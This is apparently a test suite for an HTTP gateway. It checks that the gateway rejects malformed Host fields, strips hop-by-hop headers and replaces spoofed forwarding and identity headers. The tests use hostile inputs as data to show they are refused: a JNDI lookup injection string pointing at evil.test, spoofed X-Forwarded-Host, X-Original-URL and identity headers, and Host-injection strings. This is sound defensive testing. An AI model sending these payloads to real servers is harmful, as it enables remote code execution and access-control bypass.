import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test'
import { rawText } from '../support/raw-http.ts'
import { openScene, problemCode, type Scene, SERVICES, simpleConfig } from './scene.ts'

/** Host and header fields, as a client writes them on the wire and as the upstream reads them. */

const SECRET = 'sha256:2bb80d537b1da3e38bd30361aa855686bde0eacd7162fef6a25fe97bf527a25b'

let scene: Scene
let before = 0

beforeAll(async () => {
  scene = await openScene({
    config: (upstream) => ({
      version: 1,
      services: SERVICES,
      upstreams: { main: { url: upstream }, vhosts: { url: upstream, 'preserve-host': true } },
      routes: {
        all: { path: '/*', upstream: 'main' },
        kept: { path: '/kept/*', upstream: 'vhosts' },
        known: {
          path: '/known',
          policies: [{ 'api-key': { 'client-header': 'x-user-id', clients: { bob: { keys: [SECRET] } } } }],
          upstream: 'main',
        },
      },
    }),
  })
})
afterAll(() => scene.close())
beforeEach(() => {
  before = scene.upstream.requests.length
})

const seen = () => scene.upstream.requests.slice(before)
const last = () => {
  const request = seen().at(-1)
  if (!request) throw new Error('Nothing was forwarded')
  return request
}

describe('a Host field', () => {
  const refused: readonly (readonly [string, string])[] = [
    ['that is missing', ''],
    ['that is empty', 'Host:\r\n'],
    ['that is there twice', 'Host: a.test\r\nHost: b.test\r\n'],
    ['that is there twice, the same', 'Host: a.test\r\nHost: a.test\r\n'],
    ...[
      'a.test/admin#',
      'a.test/admin',
      'a.test?x',
      'a.test#x',
      'a.test\\admin',
      'user@a.test',
      'a.test:80:80',
      'a.test:x',
      'a b',
      'a.test, b.test',
      '[::1',
      '[::1]x',
      'a.test:999999',
      '<a>',
    ].map((host) => [`that is no host: ${host}`, `Host: ${host}\r\n`] as const),
  ]
  for (const [name, line] of refused) {
    test(`${name} is refused with 400`, async () => {
      const [reply] = await scene.send(`GET /public HTTP/1.1\r\n${line}\r\n`, { timeoutMs: 2_000 })
      expect(reply?.status).toBe(400)
      expect(seen()).toEqual([])
      expect((await scene.get('/after')).status).toBe(200)
    })
  }

  for (const host of ['a.test', 'A.Test:8080', '192.0.2.1', '[2001:db8::1]:80', 'xn--bcher-kva.test', 'a_b.test']) {
    test(`${host} is accepted, and the upstream gets its own`, async () => {
      const [reply] = await scene.send(`GET /public HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
      expect(reply?.status).toBe(200)
      expect(last().values('host')).toEqual([new URL(scene.upstream.url).host])
      expect(last().values('x-forwarded-host')).toEqual([host])
    })
  }

  test('goes on when the upstream says preserve-host', async () => {
    await scene.get('/kept/x')
    expect(last().values('host')).toEqual(['shop.test'])
  })

  test('does not decide the path, nor does the authority of an absolute target', async () => {
    const [reply] = await scene.send('GET http://evil.test/public?x HTTP/1.1\r\nHost: shop.test\r\n\r\n')
    expect(reply?.status).toBe(200)
    expect(last().requestLine).toBe('GET /public?x HTTP/1.1')
    expect(last().values('x-forwarded-host')).toEqual(['shop.test'])
  })
})

describe('a Connection field', () => {
  for (const name of [
    'X-Forwarded-For',
    'x-forwarded-host',
    'Authorization',
    'Cookie',
    'Host',
    'Content-Length',
    'Forwarded',
    'traceparent',
    'Idempotency-Key',
    'X-Request-Id',
  ]) {
    test(`that names ${name} is refused with 400`, async () => {
      const reply = await scene.get('/x', `Connection: close, ${name}`)
      expect([reply.status, problemCode(reply)]).toEqual([400, 'invalid-request'])
      expect(seen()).toEqual([])
    })
  }

  test('that is no list of names is refused with 400', async () => {
    expect((await scene.get('/x', 'Connection: close, "x y"')).status).toBe(400)
    expect(seen()).toEqual([])
  })

  test('takes the fields it names away', async () => {
    await scene.get('/x', 'Connection: keep-alive, X-Hop , x-other', 'X-Hop: 1', 'X-Other: 2', 'X-Kept: 3')
    expect(['x-hop', 'x-other', 'x-kept'].map((name) => last().values(name))).toEqual([[], [], ['3']])
  })

  test('cannot take away what the gateway says about the caller', async () => {
    const reply = await scene.get('/known', 'X-Api-Key: secret', 'Connection: close, X-User-Id', 'X-User-Id: root')
    expect(reply.status).toBe(200)
    expect(last().values('x-user-id')).toEqual(['bob'])
  })
})

test('no field of a connection crosses the gateway', async () => {
  await scene.get(
    '/x',
    'Keep-Alive: 5',
    'TE: trailers',
    'Trailer: X-T',
    'Proxy-Authorization: Basic x',
    'Proxy-Connection: keep-alive',
    'Upgrade: foo',
    'Proxy-Authenticate: Basic',
  )
  const names = [
    'keep-alive',
    'te',
    'trailer',
    'proxy-authorization',
    'proxy-connection',
    'upgrade',
    'proxy-authenticate',
    'transfer-encoding',
  ]
  expect(names.filter((name) => last().values(name).length > 0)).toEqual([])
  expect(last().values('connection')).toEqual(['keep-alive'])
})

describe('what a client says about itself', () => {
  test('is replaced by what the gateway knows', async () => {
    const spoofed = ['X-Forwarded-For: 1.2.3.4', 'Forwarded: for=1.2.3.4', 'X-Real-IP: 1.2.3.4', 'X-Forwarded-Prefix: /x', 'X-Forwarded-Host: evil.test',
      'X-Forwarded-Proto: https', 'X-Forwarded-Port: 1', 'CF-Connecting-IP: 1.2.3.4', 'True-Client-IP: 1.2.3.4', 'X-Original-URL: /admin', 'X-Rewrite-URL: /admin'] // biome-ignore format: a list
    await scene.get('/x', ...spoofed)
    expect(last().values('x-forwarded-for')).toEqual(['127.0.0.1'])
    expect(last().values('forwarded')).toEqual(['for=127.0.0.1;proto=http;host="shop.test"'])
    expect(last().values('x-forwarded-host')).toEqual(['shop.test'])
    expect(last().values('x-forwarded-proto')).toEqual(['http'])
    expect(last().text()).not.toContain('1.2.3.4')
    expect(last().text()).not.toContain('evil.test')
    expect(last().text()).not.toContain('/admin')
    expect(scene.records().at(-1)?.client).toBe('127.0.0.1')
  })

  test('does not survive in a spelling CGI servers read alike', async () => {
    await scene.get('/x', 'X_Forwarded_For: 1.2.3.4', 'X_User_Id: root', 'x-forwarded_for: 1.2.3.4')
    expect(last().text()).not.toContain('1.2.3.4')
    expect(last().text()).not.toContain('root')
  })

  test('cannot set an identity field, on routes without authentication too', async () => {
    await scene.get('/open', 'X-User-Id: root')
    expect(last().values('x-user-id')).toEqual([])
    expect((await scene.get('/known', 'X-User-Id: root')).status).toBe(401)
  })

  for (const id of ['a'.repeat(10_000), 'x-1', `\${jndi:ldap://evil.test/a}`, 'a b', 'good-id']) {
    test(`is not believed as a request id: ${id.slice(0, 30)}`, async () => {
      const reply = await scene.get('/x', `X-Request-Id: ${id}`)
      const given = reply.header('x-request-id') ?? ''
      expect(given).toMatch(/^[0-9a-f-]{36}$/)
      expect(last().values('x-request-id')).toEqual([given])
      expect(scene.records().at(-1)?.id).toBe(given)
    })
  }
})

describe('behind a trusted proxy', () => {
  const chain = 'X-Forwarded-For: 0.0.0.1, 0.0.0.2, 0.0.0.3'

  async function behind<T>(trust: unknown, use: (trusted: Scene) => Promise<T>): Promise<T> {
    const trusted = await openScene({ config: (upstream) => simpleConfig(upstream, { server: { trust } }) })
    try {
      return await use(trusted)
    } finally {
      await trusted.close()
    }
  }

  for (const [hops, client] of [
    [1, '0.0.0.3'],
    [2, '0.0.0.2'],
    [3, '0.0.0.1'],
    [4, '0.0.0.1'],
  ] as const) {
    test(`the client is ${client} after ${hops} hops`, () =>
      behind({ hops }, async (trusted) => {
        await trusted.get('/x', chain)
        expect(trusted.records().at(-1)?.client).toBe(client)
        expect(trusted.upstream.requests[0]?.values('x-forwarded-for')).toEqual([
          '0.0.0.1, 0.0.0.2, 0.0.0.3, 127.0.0.1',
        ])
      }))
  }

  test('zero hops are a mistake of the configuration', () =>
    expect(behind({ hops: 0 }, async () => undefined)).rejects.toThrow(/trust/))

  test('its request id, protocol and host are believed, and its host only when it is one', () =>
    behind({ cidrs: ['127.0.0.0/8'] }, async (trusted) => {
      const reply = await trusted.get(
        '/x',
        'X-Request-Id: proxy.1',
        'X-Forwarded-Proto: https',
        'X-Forwarded-Host: www.shop.test',
      )
      expect(reply.header('x-request-id')).toBe('proxy.1')
      await trusted.get('/x', 'X-Forwarded-Host: evil.test/admin#', 'X-Request-Id: a b', 'X-Forwarded-Proto: gopher')
      const [first, second] = trusted.upstream.requests
      expect(first?.values('x-forwarded-proto')).toEqual(['https'])
      expect(first?.values('x-forwarded-host')).toEqual(['www.shop.test'])
      expect(second?.values('x-forwarded-proto')).toEqual(['http'])
      expect(second?.values('x-forwarded-host')).toEqual(['shop.test'])
      expect(second?.values('x-request-id')).not.toEqual(['a b'])
    }))
})

describe('a header section that is too large', () => {
  const many = (count: number) => Array.from({ length: count }, (_, i) => `x-${i}: 1`)

  test('is read up to 60 KiB', async () => {
    expect((await scene.get('/x', `X-Big: ${'a'.repeat(50_000)}`)).status).toBe(200)
    expect(last().values('x-big')[0]?.length).toBe(50_000)
  })

  test('is refused with a problem above', async () => {
    const reply = await scene.get('/x', `X-Big: ${'a'.repeat(62_000)}`)
    expect([reply.status, problemCode(reply)]).toEqual([431, 'headers-too-large'])
  })

  test('is refused by Bun far above, without a body', async () => {
    const reply = await scene.get('/x', `X-Big: ${'a'.repeat(100_000)}`)
    expect([reply.status, reply.closed]).toEqual([431, true])
  })

  test('is refused with more than 100 fields', async () => {
    expect((await scene.get('/x', ...many(90))).status).toBe(200)
    const reply = await scene.get('/x', ...many(110))
    expect([reply.status, problemCode(reply)]).toEqual([431, 'headers-too-large'])
    expect((await scene.get('/x', ...many(2_000))).status).toBe(431)
  })

  test('is refused with 414 when it is the target that is too long', async () => {
    const reply = await scene.get(`/${'a'.repeat(70_000)}`)
    expect([reply.status, problemCode(reply)]).toEqual([414, 'uri-too-long'])
  })

  test('keeps nobody from being served', async () => {
    const replies = await Promise.all(
      Array.from({ length: 20 }, () => scene.get('/x', `X-Big: ${'a'.repeat(100_000)}`)),
    )
    expect(replies.map(({ status }) => status)).toEqual(replies.map(() => 431))
    expect((await scene.get('/after')).status).toBe(200)
    await scene.settled()
  })
})

test('a field repeated by the client reaches the upstream with all its values', async () => {
  await scene.get('/x', 'X-Many: 1', 'X-Many: 2', 'Accept: a/b', 'Accept: c/d', 'Cookie: a=1', 'Cookie: b=2')
  expect(last().values('x-many').join(', ')).toBe('1, 2')
  expect(last().values('accept').join(', ')).toBe('a/b, c/d')
  expect(last().values('cookie').join('; ')).toBe('a=1; b=2')
})

test('a trace is continued with a span of the gateway', async () => {
  const trace = '0af7651916cd43dd8448eb211c80319c'
  const reply = await scene.get('/x', `traceparent: 00-${trace}-b7ad6b7169203331-01`, 'tracestate: vendor=1')
  expect(last().values('traceparent')[0]).toMatch(new RegExp(`^00-${trace}-(?!b7ad6b7169203331)[0-9a-f]{16}-01$`))
  expect(last().values('tracestate')).toEqual(['vendor=1'])
  expect(rawText([reply])).toContain('Via: 1.1 sluice')
  expect(last().values('via')).toEqual(['1.1 sluice'])
})
